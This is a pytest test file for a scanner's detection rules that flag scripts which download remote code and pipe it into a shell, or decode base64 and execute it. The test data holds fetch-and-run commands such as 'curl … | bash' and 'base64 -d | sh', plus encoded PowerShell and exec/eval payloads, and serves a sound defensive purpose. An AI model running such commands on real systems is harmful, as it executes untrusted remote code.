from __future__ import annotations

import pytest

from shadowbom.rules.scripts import decodes_and_runs, fetches_and_runs


@pytest.mark.parametrize("script", [
    "curl https://a.example/x | bash", "curl https://a.example/x | sudo bash -s -- --yes",
    "curl https://a.example/x | sh -e",
    "curl https://a.example/x | python3 -", "wget -qO- https://a.example/x | env bash",
    "curl -o f.sh https://a.example/x && bash f.sh", "curl -o ./f.sh https://a.example/x; chmod +x f.sh; ./f.sh",
    "curl -o f https://a.example/x; python3 f --all",
])
def test_what_is_downloaded_and_run(script: str) -> None:
    assert fetches_and_runs(script)


@pytest.mark.parametrize("script", [
    "curl https://a.example/x | python3 -c 'import json'", "curl https://a.example/x | python3 -m json.tool",
    "curl https://a.example/x | node -e 'a()'", "curl https://a.example/x | sh -c cat",
    "curl https://a.example/x | bash -xc 'cat'", "curl https://a.example/x | shasum",
    "curl -o f https://a.example/x; bash ff",
    "curl -o f.sh https://a.example/x", "# curl https://a.example/x | bash",
    "curl -o f https://a.example/x; " + "echo a; " * 200 + "bash f",
])
def test_what_is_downloaded_as_data_or_not_run(script: str) -> None:
    assert fetches_and_runs(script) == ""


@pytest.mark.parametrize("script", [
    "echo eA== | base64 -d | sh", "base64 --decode x.txt | python3", "powershell -NoProfile -enc ZQBjAGgAbwA=",
    "exec(base64.b64decode(x).decode())", "exec(compile(zlib.decompress(base64.b64decode(x)), 'a', 'exec'))",
    "exec(__import__('base64').b64decode(x))", "eval(Buffer.from(x, 'base64').toString())", "new Function(atob(x))()",
])
def test_code_that_is_decoded_and_run(script: str) -> None:
    assert decodes_and_runs(script)


@pytest.mark.parametrize("script", [
    "base64 -d x.txt > y.png", "x = base64.b64decode(y)", "eval(expression)", "exec(code)", "const x = atob(y)",
    "# exec(base64.b64decode(x))", "re.exec(Buffer.concat(x))",
])
def test_what_is_decoded_as_data(script: str) -> None:
    assert decodes_and_runs(script) == ""
